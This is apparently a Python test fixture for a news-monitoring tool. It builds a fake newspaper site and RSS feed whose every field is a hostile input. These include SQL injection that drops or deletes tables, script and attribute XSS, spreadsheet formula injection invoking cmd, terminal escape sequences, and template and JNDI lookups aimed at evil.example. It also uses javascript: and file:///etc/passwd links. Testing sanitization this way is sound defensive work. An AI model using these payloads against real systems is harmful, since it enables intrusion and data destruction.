"""Words of strangers that would be more than words somewhere: in SQL, HTML, a spreadsheet, a terminal, a template."""

from __future__ import annotations

from collections.abc import Mapping
from html import escape

from tests.reliability.paper import Paper, article

TERMINAL = "\x1b[31mPWNED\x1b]0;OWNED\x07\x9b2JCLEARED\u202eDENRUT\u2066"
WORDS: Mapping[str, str] = {
    "sql": "'); drop table newswatch.article; --",
    "sql identifier": '"; delete from newswatch.entry where "1"="1',
    "sql percent": "%s %(name)s :name \\' $$ $1",
    "script": "<script>alert('PWNED1')</script>",
    "attribute": '"><img src=http://evil.example/p.png onerror=alert(2)>',
    "single quotes": "'><svg/onload=alert(3)>",
    "end of a title": "</title></textarea></style></script><iframe src=http://evil.example/></iframe>",
    "end of a section": "]]>--><script>alert(4)</script><!--",
    "entity": "&lt;script&gt;alert(5)&lt;/script&gt; &#x3C;script&#x3E;",
    "formula": '=HYPERLINK("http://evil.example/","PWNED")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "terminal": TERMINAL,
    "jinja": "{{ 7*7 }}{% raw %}{{ config }}",
    "format": "{0.__class__.__mro__} %(asctime)s ${jndi:ldap://evil.example/x}",
    "json": '","killed_best":99999,"x":"\\u0000\\ud800',
    "nul": "a\x00b\x00c",
    "surrogate": "half \ud800 a pair",
    "markdown": "[x](javascript:alert(9)) ![](http://evil.example/m.png) `a` | b | *c* <b>",
    "huge": "A" * 200_000,
    "lines": "one\r\ntwo\u2028three\x0bfour",
}
LINKS = (
    "javascript:alert(10)",
    "data:text/html,<script>alert(11)</script>",
    "file:///etc/passwd",
    'http://paper.example/"onmouseover="alert(12)',
    "http://paper.example/%1b[31mPWNED?=1&lt;script&gt;",
)
DISTRICTS = (
    "Bajaur Khyber Kurram Mohmand Orakzai Bannu Swat Dir Chitral Kohat Hangu Karak Tank Mardan Peshawar Nowshera "
    "Quetta Chaman Zhob Ziarat Sibi Pishin Kech Gwadar Awaran Khuzdar Kalat Mastung Nushki Kharan"
).split()
NUMBERS = "Two Three Four Five Six Seven Eight Nine Ten Eleven Twelve".split()


def paper(host: str = "paper.example") -> Paper:
    """A paper whose every text is hostile, and tells of an incident: so it comes into every output."""
    made = Paper(host)
    entries = []
    for number, (name, evil) in enumerate(WORDS.items()):
        path = f"/{name.replace(' ', '-')}.html"
        inner = escape("".join(_reference(letter) for letter in evil), quote=False).replace("&amp;#", "&#")
        killed, district = NUMBERS[number % len(NUMBERS)], DISTRICTS[number]
        made.put(
            path,
            article(
                f"{inner} as {killed.lower()} policemen die in {district}",
                f"{killed} policemen were killed when a roadside bomb exploded in {district} district on Monday, a "
                f"spokesman named {inner[:300]} said.",
                f"“{inner}” was written on a wall nearby, the police of {district} said on Monday.",
                head=f'<meta name="author" content="{escape(inner[:300], quote=True)}">'
                f'<meta property="article:published_time" content="2026-03-09T1{number % 10}:00:00Z">',
            ),
        )
        title = escape("".join(_reference(letter) for letter in evil)).replace("&amp;#", "&#")
        entries.append(
            f"<item><title>{title}</title><link>http://{made.host}{path}</link><guid>{title}</guid>"
            f"<author>{title[:500]}</author><description>{title}</description></item>"
        )
    entries += [f"<item><title>a link</title><link>{escape(link)}</link></item>" for link in LINKS]
    text = f'<rss version="2.0"><channel><title>{escape(WORDS["script"])}</title>{"".join(entries)}</channel></rss>'
    made.feed = text.encode("utf-8", "surrogatepass")
    return made


def _reference(letter: str) -> str:
    """As a hostile server writes what XML does not allow."""
    return f"&#{ord(letter)};" if ord(letter) < 32 or 0xD800 <= ord(letter) < 0xE000 else letter
